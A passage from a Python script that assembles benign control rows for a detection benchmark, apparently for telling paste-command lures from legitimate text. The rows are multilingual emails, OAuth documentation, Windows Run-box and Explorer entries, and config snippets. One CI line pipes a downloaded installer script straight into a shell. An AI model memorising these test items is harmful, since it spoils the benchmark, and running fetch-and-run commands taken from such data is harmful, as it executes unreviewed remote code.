        "https://mail.corp.example/inbox/7",
        "Beste klant, uw afspraak bij de tandarts is verzet naar 14 december om 11:15. Verhinderd? Bel ons op 020 555 0912. Met vriendelijke groet, Tandartspraktijk Zuid",
    ),
    (
        "https://mail.corp.example/inbox/8",
        "Dzień dobry, przypominamy o wizycie kontrolnej w poniedziałek o 8:00. W razie zmian prosimy o kontakt: 22 555 40 11. Przychodnia Rodzinna",
    ),
    (
        "https://mail.corp.example/inbox/9",
        "Merhaba Ayşe Hanım, siparişiniz kargoya verildi. Takip için müşteri hizmetlerimizi 0212 555 33 44 numarasından arayabilirsiniz.",
    ),
    (
        "https://mail.corp.example/inbox/10",
        "Здравствуйте! Ваша заявка на ремонт принята, мастер приедет в среду с 10 до 12. Если время неудобно, позвоните по номеру +7 495 555-01-27.",
    ),
    (
        "https://mail.corp.example/inbox/11",
        "山田様 ご予約ありがとうございます。チェックインは15時からです。ご不明な点はフロント（03-5555-0142）までお電話ください。",
    ),
    (
        "https://mail.corp.example/inbox/12",
        "王先生您好，您预约的体检时间为周五上午八点，请空腹前来。如需改期，请致电 010-5555-0186。",
    ),
    (
        "https://mail.corp.example/inbox/13",
        "مرحبًا أحمد، تم تأكيد موعدك في العيادة يوم الأحد الساعة العاشرة صباحًا. للاستفسار يرجى الاتصال على 04 555 0123.",
    ),
]:
    ok(MAIL, UNK, page, text)

# --- OAuth and device-flow documentation ---------------------------------------------------------

OAUTH = "oauth-docs"
for page, text in [
    (
        "https://datatracker.ietf.org/doc/html/rfc8628",
        "The device authorization response contains a user_code such as WDJB-MJHT and a verification_uri; the client displays both and asks the user to visit the URI on another device and enter the code.",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-auth-code-flow",
        "GET https://login.microsoftonline.com/{tenant}/oauth2/v2.0/authorize?client_id=11111111-2222-3333-4444-555555555555&response_type=code&redirect_uri=https%3A%2F%2Fapp.example.org%2Fcallback&scope=openid%20offline_access&state=12345",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps#device-flow",
        "The device flow lets you authorize users for a headless app such as a CLI tool. The app shows a user code; the user enters it at github.com/login/device and the app polls for the access token.",
    ),
    (
        "https://oauth.net/2/pkce/",
        "PKCE adds a code_verifier and a code_challenge to the authorization code flow so that an intercepted authorization code cannot be exchanged by another app.",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/scopes",
        "https://www.googleapis.com/auth/drive.readonly  See and download all your Google Drive files.",
    ),
    (
        "https://auth0.com/docs/get-started/authentication-and-authorization-flow/authorization-code-flow",
        "After the user authenticates, Auth0 redirects to your callback URL with an authorization code in the query string; your backend exchanges it for tokens at the /oauth/token endpoint.",
    ),
]:
    ok(OAUTH, UNK, page, text)

# --- Run-box and Explorer entries people really type -----------------------------------------------

RUNBOX = "run-box-plain"
for text in [
    "%appdata%\\Microsoft\\Teams\\logs",
    "dxdiag /t C:\\Temp\\dxdiag.txt",
    "msinfo32 /nfo C:\\Temp\\system.nfo",
    "taskmgr /7",
    "rundll32.exe keymgr.dll,KRShowKeyMgr",
    "fsquirt",
    "mmsys.cpl ,1",
    "ms-settings:nightlight",
    "outlook.exe /resetnavpane",
    "winword /a",
    "C:\\Tools\\Sysinternals\\procexp64.exe",
    "dpiscaling",
    "eventvwr.msc /c:Application",
    "\\\\print-hq01.corp.example",
    "%userprofile%\\AppData\\LocalLow",
    'notepad "%APPDATA%\\Code\\User\\settings.json"',
]:
    ok(RUNBOX, RUN, None, text)

EXPLORER = "explorer-entry"
for text in [
    "%LOCALAPPDATA%\\Packages\\Microsoft.WindowsTerminal_8wekyb3d8bbwe\\LocalState",
    "\\\\nas01\\photos\\2026\\Urlaub",
    "C:\\Program Files\\Blender Foundation\\Blender 4.3",
    "%USERPROFILE%\\Saved Games",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History",
    "%TEMP%\\Outlook Logging",
    "E:\\DCIM\\100CANON",
    "C:\\Users\\Public\\Documents\\Scans\\2026-12",
    "\\\\fs02.corp.example\\projects\\Q1-roadmap",
]:
    ok(EXPLORER, EXP, None, text)

# --- Config, source and log snippets -------------------------------------------------------------

CONFIG = "config-code"
for page, text in [
    (
        "https://github.com/example-org/site/blob/main/nginx.conf",
        "server {\n    listen 443 ssl;\n    server_name example.org;\n    location / {\n        proxy_pass http://127.0.0.1:3000;\n        proxy_set_header Host $host;\n    }\n}",
    ),
    (
        "https://github.com/example-org/app/blob/main/compose.yaml",
        "services:\n  db:\n    image: postgres:17\n    environment:\n      POSTGRES_PASSWORD: example\n    volumes:\n      - pgdata:/var/lib/postgresql/data\nvolumes:\n  pgdata:",
    ),
    (
        "https://github.com/example-org/app/blob/main/.github/workflows/ci.yml",
        "jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: curl -LsSf https://astral.sh/uv/install.sh | sh\n      - run: uv run pytest -q",
    ),
    (
        "https://github.com/example-org/infra/blob/main/backup.service",
        "[Unit]\nDescription=Nightly backup\n\n[Service]\nType=oneshot\nExecStart=/usr/local/bin/restic backup /srv/data\n\n[Install]\nWantedBy=multi-user.target",
    ),
    (
        "https://github.com/example-org/dotfiles/blob/main/.zshrc",
        'export EDITOR=nvim\neval "$(zoxide init zsh)"\neval "$(starship init zsh)"\nalias ll=\'eza -la --git\'',
    ),
    (
        "https://github.com/example-org/infra/blob/main/k8s/deployment.yaml",
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\nspec:\n  replicas: 3\n  selector:\n    matchLabels:\n      app: api",
    ),
    (
        "https://github.com/example-org/web/blob/main/package.json",
        '{\n  "scripts": {\n    "dev": "vite",\n    "build": "tsc -b && vite build",\n    "lint": "eslint ."\n  }\n}',
    ),
    (
        "https://github.com/example-org/lib/blob/main/pyproject.toml",
        '[project]\nname = "example-lib"\nversion = "0.4.1"\nrequires-python = ">=3.10"\ndependencies = ["httpx>=0.27", "pydantic>=2"]',
    ),
    (
        "https://github.com/example-org/site/blob/main/Caddyfile",
        "example.org {\n\treverse_proxy localhost:8080\n\tencode gzip\n\tlog {\n\t\toutput file /var/log/caddy/access.log\n\t}\n}",
    ),
    (
        "https://logs.internal.example/worker",
        '2026-12-06T11:02:17Z ERROR job=thumbnails id=5521 err="timeout after 30s" retry=1\n2026-12-06T11:02:48Z INFO  job=thumbnails id=5521 status=done dur=29.4s',
    ),
]:
    ok(CONFIG, UNK, page, text)

# ----------------------------------------------------------------------------------------------
# Checks and writing: bench/blind/blindkit.py (shared from the seventh set on)
# ----------------------------------------------------------------------------------------------


def lure_rows() -> list[dict[str, str]]:
    return blindkit.lure_rows("blind10", LURES)


def benign_rows() -> list[dict[str, str]]:
    return blindkit.benign_rows("blind10", BENIGN)


def main() -> None:
    blindkit.main("blind10", LURES, BENIGN, LURES_OUT, BENIGN_OUT)


if __name__ == "__main__":
    main()
